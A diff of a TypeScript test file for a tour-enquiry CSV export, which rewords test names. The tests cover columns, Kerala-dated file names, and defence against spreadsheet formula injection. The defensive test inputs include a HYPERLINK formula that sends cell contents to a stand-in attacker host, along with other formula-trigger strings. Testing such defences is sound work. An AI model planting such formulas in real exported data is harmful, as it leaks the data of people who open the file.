@@ -29,7 +29,7 @@ function makeRow(fields: Partial<ExportRow> = {}): ExportRow {
 }
 
 describe('the two layouts', () => {
-  it('422 424 have these columns, behind a byte order mark', () => {
+  it('have these columns and a byte order mark', () => {
     expect(toHeaderLine('service')).toBe(
       '\uFEFFID,Customer Name,Email,Phone,Tour Title,Message,Enquiry Date,Status,Source\r\n',
     );
@@ -37,13 +37,13 @@ describe('the two layouts', () => {
     expect(BYTE_ORDER_MARK).toHaveLength(1);
   });
 
-  it('423 427 have file names with the day in Kerala, also when it is still yesterday in London', () => {
+  it('put the Kerala date into the file name', () => {
     const lateInLondon = new Date('2026-11-21T19:00:00Z');
     expect(toExportFileName('service', lateInLondon)).toBe('enquiries_2026-11-22.csv');
     expect(toExportFileName('list', lateInLondon)).toBe('enquiries_list_2026-11-22.csv');
   });
 
-  it('service: everything as it is stored, the moment in ISO form', () => {
+  it('service: stores everything verbatim, with ISO timestamps', () => {
     expect(readCsv(toExportLine(makeRow(), 'service'))).toEqual([
       [
         '6f1c2f1e-3f0e-4a53-9d29-0f6f6a1b2c3d', 'ആശ മേനോൻ', 'asha@example.com', '98470 12345', 'Heart of Kerala',
@@ -52,7 +52,7 @@ describe('the two layouts', () => {
     ]); // prettier-ignore
   });
 
-  it('425 426 list: commas of the message become semicolons, its lines one, the day is Kerala’s', () => {
+  it('list: replaces commas by semicolons and line breaks by spaces in the message, and uses the Kerala date', () => {
     expect(readCsv(toExportLine(makeRow(), 'list'))).toEqual([
       [
         'ആശ മേനോൻ', 'asha@example.com', '98470 12345', 'Heart of Kerala', '₹11,500 per pax (min 4 person)', 'new',
@@ -70,7 +70,7 @@ describe('the two layouts', () => {
     expect(readCsv(toExportLine(makeRow({ message }), 'list'))[0]?.[7]).toBe(written);
   });
 
-  it('show what is missing as nothing, and no package as General', () => {
+  it('leave missing values empty, and a missing package as General', () => {
     const bare = makeRow({ email: null, title: ' ', priceShown: null, message: '' });
     expect(readCsv(toExportLine(bare, 'list'))[0]).toEqual([
       'ആശ മേനോൻ',
@@ -101,11 +101,11 @@ describe('the two layouts', () => {
   });
 });
 
-describe('a cell that a spreadsheet could run', () => {
+describe('a cell that a spreadsheet could execute', () => {
   it.each([
     '=HYPERLINK("http://evil.example?x="&A1,"Click")', '+919847012345', '-2+3', '@SUM(A1)', '=1+1', '\t=1+1', '\r=1+1', '\tword',
     ' =1', '  +1', '\u00A0=1', '\uFEFF=1', '\u200B=1', '"=1', "'=1", '“=1', '` =1', '\n=1', '＝1+1', '＋91', '－1', '＠x', '﹦1', '−1',
-  ])('%j gets a quote before it', (cell) => {
+  ])('prefixes %j with a quote', (cell) => {
     expect(neutralise(cell)).toBe(`'${cell}`);
   }); // prettier-ignore
 
@@ -123,16 +123,16 @@ describe('a cell that a spreadsheet could run', () => {
     '₹500',
     '#1',
     '1 = 1',
-  ])('%j stays as it is', (cell) => {
+  ])('leaves %j unchanged', (cell) => {
     expect(neutralise(cell)).toBe(cell);
   });
 
-  it('gets one behind a semicolon too, which parts the cells in other countries', () => {
+  it('prefixes after a semicolon too, the separator in other locales', () => {
     expect(neutralise('yes,=1+1; =2')).toBe("yes,=1+1;' =2");
     expect(readCsv(toExportLine(makeRow({ message: 'yes,=cmd' }), 'list'))[0]?.[7]).toBe("yes;'=cmd");
   });
 
-  it('is never left, whatever somebody types', () => {
+  it('never remains, for any text', () => {
     const tricky = fc.string({
       unit: fc.constantFrom(
         '=',
@@ -175,7 +175,7 @@ describe('a cell that a spreadsheet could run', () => {
 });
 
 describe('a line', () => {
-  it('reads back as the cells that were written, whatever they hold', () => {
+  it('parses back to the cells written, for any content', () => {
     fc.assert(
       fc.property(fc.string({ unit: 'grapheme' }), fc.string({ unit: 'binary' }), (customerName, message) => {
         const line = toExportLine(makeRow({ customerName, message }), 'service');
@@ -188,7 +188,7 @@ describe('a line', () => {
     );
   });
 
-  it('of the list holds no comma and no line break in its message', () => {
+  it('of the list has no comma or line break in its message', () => {
     fc.assert(
       fc.property(fc.string({ unit: fc.constantFrom(',', '\n', '\r', '"', 'x', ';') }), (message) => {
         expect(readCsv(toExportLine(makeRow({ message }), 'list'))[0]?.[7]).not.toMatch(/[,\r\n]/);
@@ -196,7 +196,7 @@ describe('a line', () => {
     );
   });
 
-  it('keeps many lines apart', () => {
+  it('stays separate from the next', () => {
     const file =
       toHeaderLine('service') +
       [1, 2, 3].map((n) => toExportLine(makeRow({ message: `"${n}"\r\n` }), 'service')).join('');
